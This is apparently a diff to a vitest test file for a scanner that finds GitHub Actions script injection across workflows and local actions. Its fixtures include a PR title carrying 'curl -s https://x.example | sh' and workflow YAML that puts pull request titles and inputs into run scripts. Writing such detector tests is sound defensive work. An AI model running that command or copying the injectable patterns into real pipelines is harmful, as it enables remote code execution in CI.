@@ -1,4 +1,5 @@
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { callersWanted, localCalleesOf } from '../../src/ecosystems/github-actions/cross-file-injection.js';
 import { hasShellPayload } from '../../src/ecosystems/github-actions/pr-metadata.js';
 import { createOctokit } from '../../src/github/create-octokit.js';
 import { fetchPrData, MAX_BASE_WORKFLOWS } from '../../src/github/fetch-pr-data.js';
@@ -16,6 +17,10 @@ let payload: PrFixture;
 let many: PrFixture;
 let tagged: PrFixture;
 let submodule: PrFixture;
+let callee: PrFixture;
+let dispatch: PrFixture;
+let caller: PrFixture;
+let quietCaller: PrFixture;
 
 beforeAll(async () => {
   server = await startGitHubServer();
@@ -35,6 +40,27 @@ beforeAll(async () => {
   });
   const gitlink = { path: 'vendor/lib', status: 'modified' as const, patch: `@@ -1 +1 @@\n-Subproject commit ${'c'.repeat(40)}\n+Subproject commit ${'d'.repeat(40)}`, additions: 1, deletions: 1 };
   submodule = server.addPullRequest(makePrFixture({ ...base, number: 8, files: [gitlink], baseFiles: { '.gitmodules': '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://git.example.net/lib.git\n' } }));
+  const action = (run: string) => `name: lint\ninputs:\n  title: {}\nruns:\n  using: composite\n  steps:\n    - shell: bash\n      run: ${run}\n`;
+  callee = server.addPullRequest(
+    makePrFixture({
+      ...base,
+      number: 9,
+      files: [{ path: '.github/actions/lint/action.yml', base: action('echo "$TITLE"'), head: action('echo "${{ inputs.title }}"') }],
+      baseFiles: { '.github/workflows/lint.yml': workflow('lint') },
+    }),
+  );
+  const release = (run: string) => `name: release\non:\n  workflow_dispatch:\n    inputs:\n      version: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ${run}\n`;
+  dispatch = server.addPullRequest(
+    makePrFixture({ ...base, number: 10, files: [{ path: '.github/workflows/release.yml', base: release('npm publish'), head: release('npm version ${{ inputs.version }}') }], baseFiles: { '.github/workflows/lint.yml': workflow('lint') } }),
+  );
+  const lint = (title: string) => `name: lint\non: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/lint\n        with:\n          title: ${title}\n      - uses: ./.github/actions/label\n      - uses: ./.github/workflows/other.yml\n`;
+  const calleeFiles = { '.github/actions/lint/action.yaml': action('echo "${{ inputs.title }}"'), '.github/actions/label/action.yml': action('true') };
+  caller = server.addPullRequest(
+    makePrFixture({ ...base, number: 11, files: [{ path: '.github/workflows/lint.yml', base: lint("'fixed'"), head: lint('${{ github.event.pull_request.title }}') }], baseFiles: calleeFiles }),
+  );
+  quietCaller = server.addPullRequest(
+    makePrFixture({ ...base, number: 12, files: [{ path: '.github/workflows/lint.yml', base: lint("'fixed'"), head: lint('${{ github.event.pull_request.number }}') }], baseFiles: calleeFiles }),
+  );
   many = server.addPullRequest(makePrFixture({ ...base, number: 6, title: 'docs: typo; curl -s https://x.example | sh', baseFiles }));
 });
 afterAll(async () => {
@@ -44,7 +70,7 @@ afterAll(async () => {
 async function analyze(fixture: PrFixture) {
   server.reset();
   const { octokit, requestCount } = createOctokit({ baseUrl: server.apiUrl, retryBaseMs: 1, timeoutMs: 2000, log: { warn: () => undefined } });
-  const snapshot = await fetchPrData(octokit, { owner: fixture.owner, repo: fixture.repo, number: fixture.number }, { wantContent, metadataPayload: hasShellPayload });
+  const snapshot = await fetchPrData(octokit, { owner: fixture.owner, repo: fixture.repo, number: fixture.number }, { wantContent, metadataPayload: hasShellPayload, callersWanted, localCallees: localCalleesOf });
   return { snapshot, requests: requestCount() };
 }
 
@@ -68,6 +94,39 @@ describe('reading the base workflows for a metadata payload', () => {
     const { snapshot } = await analyze(many);
     expect(snapshot.baseFiles.filter((f) => f.path.startsWith('.github/workflows/'))).toHaveLength(MAX_BASE_WORKFLOWS);
     expect(snapshot.warnings).toEqual([`3 of the base's workflows were not read (at most ${MAX_BASE_WORKFLOWS}): they were not checked for expanding this PR's title, body or branch name`]);
+  });
+});
+
+describe('reading the base workflows for the callers of a changed local action', () => {
+  it('reads them when the PR makes a local action expand an input into a script', async () => {
+    const { snapshot } = await analyze(callee);
+    expect(snapshot.baseFiles.filter((f) => f.path.startsWith('.github/workflows/')).map((f) => f.path)).toEqual(['.github/workflows/lint.yml']);
+    expect(snapshot.warnings).toEqual([]);
+  });
+
+  it('does not read them for a workflow_dispatch workflow that expands its own inputs', async () => {
+    const { snapshot } = await analyze(dispatch);
+    expect(server.requests.some((r) => decodeURIComponent(r.path).endsWith('/contents/.github/workflows'))).toBe(false);
+    expect(snapshot.baseFiles).toEqual([]);
+  });
+});
+
+describe('reading the local actions a changed caller passes outsider-written text to', () => {
+  it('reads each local action and workflow it calls at the base (action.yaml after action.yml), and nothing for a number', async () => {
+    const { snapshot } = await analyze(caller);
+    expect(snapshot.baseFiles.map((f) => f.path).sort()).toEqual(['.github/actions/label/action.yml', '.github/actions/lint/action.yaml']);
+    expect(snapshot.warnings).toEqual([]);
+    const read = server.requests.map((r) => decodeURIComponent(r.path)).filter((p) => p.includes('/contents/.github/'));
+    expect(read.sort()).toEqual([
+      '/repos/acme/proxy/contents/.github/actions/label/action.yml',
+      '/repos/acme/proxy/contents/.github/actions/lint/action.yaml',
+      '/repos/acme/proxy/contents/.github/actions/lint/action.yml',
+      // The changed workflow's own base version (its content read), then the reusable workflow it calls.
+      '/repos/acme/proxy/contents/.github/workflows/lint.yml',
+      '/repos/acme/proxy/contents/.github/workflows/other.yml',
+    ]);
+    await analyze(quietCaller);
+    expect(server.requests.some((r) => decodeURIComponent(r.path).includes('/contents/.github/actions'))).toBe(false);
   });
 });
 
